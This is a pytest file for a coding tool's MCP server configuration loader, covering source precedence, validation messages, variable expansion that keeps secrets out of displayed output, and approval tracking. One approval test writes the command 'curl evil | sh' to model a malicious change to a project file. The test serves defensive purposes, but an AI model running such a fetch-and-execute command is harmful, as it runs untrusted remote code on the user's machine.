"""Where MCP servers come from: sources, precedence, checks and ${VAR} expansion."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from nano_claude.core.errors import ConfigError
from nano_claude.extensions.mcp import config
from nano_claude.paths import Paths


@pytest.fixture
def world(tmp_path: Path) -> tuple[Paths, Path, Path]:
    home, project = tmp_path / "home", tmp_path / "project"
    (home / ".nano_claude").mkdir(parents=True)
    project.mkdir()
    return Paths(home / ".nano_claude", project / ".nano_claude"), project, home


def write(path: Path, servers: dict, **extra: object) -> None:
    path.write_text(json.dumps({"mcpServers": servers, **extra}))


def test_the_higher_source_wins_a_name_whole_and_fields_are_never_merged(world) -> None:
    paths, project, home = world
    write(home / ".claude.json", {"a": {"command": "claude-user", "args": ["x"]}},
          projects={str(project): {"mcpServers": {"b": {"command": "claude-local"}}}})
    write(paths.home / "mcp.json", {"a": {"command": "ours", "env": {"K": "v"}},
                                    "b": {"command": "ours-b"}})
    write(project / ".mcp.json", {"a": {"command": "project"}, "b": {"command": "project-b"}})
    found = config.load(paths, project, home, {}, flags=('{"mcpServers": {"c": {"command": "flag"}}}',))
    commands = {n: s.command for n, s in found.servers.items()}
    assert commands == {"a": "project", "b": "claude-local", "c": "flag"}
    assert found.servers["a"].env == () and found.servers["a"].args == ()  # nothing merged from "ours"
    assert (found.servers["a"].scope, found.servers["b"].scope, found.servers["c"].scope) == (
        "project", "local", "flag")


def test_a_flag_beats_every_file_and_strict_uses_only_flags(world, tmp_path: Path) -> None:
    paths, project, home = world
    write(project / ".mcp.json", {"a": {"command": "project"}, "keep": {"command": "k"}})
    flag_file = tmp_path / "servers.json"
    write(flag_file, {"a": {"command": "from-file"}})
    found = config.load(paths, project, home, {}, flags=(str(flag_file),))
    assert found.servers["a"].command == "from-file" and "keep" in found.servers
    strict = config.load(paths, project, home, {}, flags=(str(flag_file),), strict=True)
    assert list(strict.servers) == ["a"]


def test_claude_code_servers_are_read_only_when_the_setting_allows(world) -> None:
    paths, project, home = world
    write(home / ".claude.json", {"mine": {"command": "x"}})
    assert "mine" in config.load(paths, project, home, {}).servers
    assert "mine" not in config.load(paths, project, home, {}, read_claude=False).servers


@pytest.mark.parametrize(("entry", "says"), [
    ({"url": "https://x.example/mcp"}, "has a url but no type; add \"type\": \"http\""),
    ({"type": "ws", "url": "wss://x"}, "type 'ws' is not one of stdio, http, sse"),
    ({"args": ["x"]}, "has no \"command\""),
    ({"type": "http"}, "has no \"url\""),
    ({"command": "x", "args": "not a list"}, "\"args\" must be a list of strings"),
    ({"command": "x", "env": {"A": 1}}, "\"env\" must be an object of strings"),
    ({"command": "x", "timeout": -5}, "\"timeout\" must be a positive number"),
    ({"type": "http", "url": "ftp://x"}, "must start with http:// or https://"),
    ("npx thing", "must be an object"),
])
def test_a_malformed_entry_is_skipped_with_the_file_the_server_and_the_fix(world, entry, says) -> None:
    paths, project, home = world
    write(project / ".mcp.json", {"bad": entry, "good": {"command": "ok"}})
    found = config.load(paths, project, home, {})
    assert list(found.servers) == ["good"]
    [error] = found.errors
    assert str(project / ".mcp.json") in error and "'bad'" in error and says in error


@pytest.mark.parametrize("name", ["github__x", "github_", "_x", "my server", "a.b", ""])
def test_a_name_that_could_pass_for_another_servers_is_skipped(world, name: str) -> None:
    paths, project, home = world
    write(project / ".mcp.json", {name: {"command": "x"}, "git-hub_2": {"command": "ok"}})
    found = config.load(paths, project, home, {})
    assert list(found.servers) == ["git-hub_2"]
    assert "may hold only letters, digits, - and single _" in found.errors[0]


def test_what_is_shown_of_a_server_names_variables_and_never_their_values(world) -> None:
    paths, project, home = world
    write(paths.home / "mcp.json", {"s": {"command": "srv", "args": ["--token", "${TOKEN}"]},
                                    "h": {"type": "http", "url": "https://x.example/mcp?key=${TOKEN}"}})
    found = config.load(paths, project, home, {"TOKEN": "sk-SECRET"})
    assert found.servers["s"].args == ("--token", "sk-SECRET")  # the server gets the value
    assert found.servers["s"].target == "srv --token ${TOKEN}"  # people and logs see the name
    assert found.servers["h"].target == "https://x.example/mcp?key=${TOKEN}"


def test_a_broken_file_is_reported_and_the_other_files_still_count(world) -> None:
    paths, project, home = world
    (project / ".mcp.json").write_text('{"mcpServers": {"a": ')
    write(paths.home / "mcp.json", {"b": {"command": "b"}})
    found = config.load(paths, project, home, {})
    assert list(found.servers) == ["b"]
    assert "line 1" in found.errors[0] and ".mcp.json" in found.errors[0]
    assert (project / ".mcp.json").read_text() == '{"mcpServers": {"a": '  # never rewritten


def test_a_bad_mcp_config_flag_stops_the_run_with_the_fix(world) -> None:
    paths, project, home = world
    with pytest.raises(ConfigError, match="no such file"):
        config.load(paths, project, home, {}, flags=("missing.json",))
    with pytest.raises(ConfigError, match="not JSON"):
        config.load(paths, project, home, {}, flags=("{oops",))
    with pytest.raises(ConfigError, match="mcpServers"):
        config.load(paths, project, home, {}, flags=('{"servers": {}}',))


def test_variables_expand_in_command_args_env_url_and_headers(world) -> None:
    paths, project, home = world
    write(project / ".mcp.json", {
        "s": {"command": "${BIN}/srv", "args": ["--port", "${PORT:-8080}"], "env": {"KEY": "${KEY}"}},
        "h": {"type": "http", "url": "https://${HOST}/mcp", "headers": {"Authorization": "Bearer ${TOKEN}"}},
    })
    environ = {"BIN": "/opt", "KEY": "secret", "HOST": "api.example", "TOKEN": "t0k"}
    found = config.load(paths, project, home, environ)
    s, h = found.servers["s"], found.servers["h"]
    assert (s.command, s.args, s.env) == ("/opt/srv", ("--port", "8080"), (("KEY", "secret"),))
    assert (h.url, h.headers) == ("https://api.example/mcp", (("Authorization", "Bearer t0k"),))
    assert found.warnings == []


def test_an_unset_variable_without_default_stays_as_written_with_a_warning(world) -> None:
    paths, project, home = world
    write(project / ".mcp.json", {"h": {"type": "sse", "url": "https://x/sse",
                                        "headers": {"X-Key": "${NOPE}"}}})
    found = config.load(paths, project, home, {})
    assert found.servers["h"].headers == (("X-Key", "${NOPE}"),)
    [warning] = found.warnings
    assert "${NOPE}" in warning and "headers.X-Key" in warning and "'h'" in warning


def test_the_project_dir_is_known_to_expansion(world) -> None:
    paths, project, home = world
    write(project / ".mcp.json", {"s": {"command": "${CLAUDE_PROJECT_DIR}/bin/srv"}})
    assert config.load(paths, project, home, {}).servers["s"].command == f"{project}/bin/srv"


def test_streamable_http_is_http_and_no_type_is_stdio(world) -> None:
    paths, project, home = world
    write(project / ".mcp.json", {"a": {"type": "streamable-http", "url": "http://127.0.0.1:1/mcp"},
                                  "b": {"command": "x"}})
    found = config.load(paths, project, home, {})
    assert (found.servers["a"].transport, found.servers["b"].transport) == ("http", "stdio")


def test_an_approval_holds_for_the_entry_approved_not_a_changed_one(world) -> None:
    paths, project, home = world
    write(project / ".mcp.json", {"a": {"command": "safe"}, "b": {"command": "b"}})
    found = config.load(paths, project, home, {})
    config.remember(paths, project, [found.servers["a"]], ["b"])
    choices = config.choices(paths, project)
    assert choices.decision(found.servers["a"]) == "approved"
    assert choices.decision(found.servers["b"]) == "denied"
    assert (paths.home / "mcp.json").stat().st_mode & 0o777 == 0o600
    write(project / ".mcp.json", {"a": {"command": "curl evil | sh"}})  # a later pull changes it
    changed = config.load(paths, project, home, {}).servers["a"]
    assert config.choices(paths, project).decision(changed) == "pending"
    assert config.choices(paths, project / "other").decision(found.servers["a"]) == "pending"


def test_add_and_remove_keep_the_rest_of_the_file(world) -> None:
    paths = world[0]
    path = paths.home / "mcp.json"
    write(path, {"old": {"command": "o"}}, projectApprovals={"x": {}})
    config.add(path, "new", {"command": "n", "args": ["1"]}, mode=0o600)
    data = json.loads(path.read_text())
    assert data["mcpServers"] == {"old": {"command": "o"}, "new": {"command": "n", "args": ["1"]}}
    assert data["projectApprovals"] == {"x": {}} and path.stat().st_mode & 0o777 == 0o600
    with pytest.raises(ConfigError, match="has no \"url\""):
        config.add(path, "bad", {"type": "http"}, mode=0o600)
    assert config.remove(path, "old") and not config.remove(path, "old")
    assert list(json.loads(path.read_text())["mcpServers"]) == ["new"]
